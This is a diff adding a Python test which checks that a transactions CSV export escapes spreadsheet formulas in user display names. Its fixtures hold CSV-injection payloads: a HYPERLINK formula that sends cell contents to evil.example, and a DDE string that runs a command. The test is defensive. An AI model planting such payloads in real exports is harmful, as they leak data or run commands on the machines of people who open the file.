@@ -40,3 +40,24 @@ def test_no_transactions_shows_an_empty_state(client, login):
     login(make_user())
     page = client.get("/settings/transactions").get_data(as_text=True)
     assert "No transactions yet" in page and "Export CSV" not in page
+
+
+def test_the_csv_never_hands_a_spreadsheet_a_formula(client, login):
+    # given a counterpart whose display name is a spreadsheet formula
+    attacker = make_user(name='=HYPERLINK("http://evil.example/?x="&A1,"Invoice")')
+    designer = make_designer()
+    designer.display_name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    drive(make_case(attacker, designer, amount_cents=5_000), CaseState.in_progress)
+    drive(make_case(make_user(name="\t+Tabbed Lab"), designer, amount_cents=3_000), CaseState.in_progress)
+
+    # when each side exports its transactions
+    login(designer)
+    rows = list(csv.DictReader(io.StringIO(client.get("/settings/transactions.csv").get_data(as_text=True))))
+    client.post("/account/logout")
+    login(attacker)
+    mine = list(csv.DictReader(io.StringIO(client.get("/settings/transactions.csv").get_data(as_text=True))))
+
+    # then the names arrive as text, and amounts stay numbers
+    assert sorted(row["counterpart"] for row in rows) == [
+        "'\t+Tabbed Lab", '\'=HYPERLINK("http://evil.example/?x="&A1,"Invoice")']
+    assert mine[0]["counterpart"] == "'@SUM(1+1)*cmd|' /C calc'!A0" and mine[0]["amount"] == "50.00"
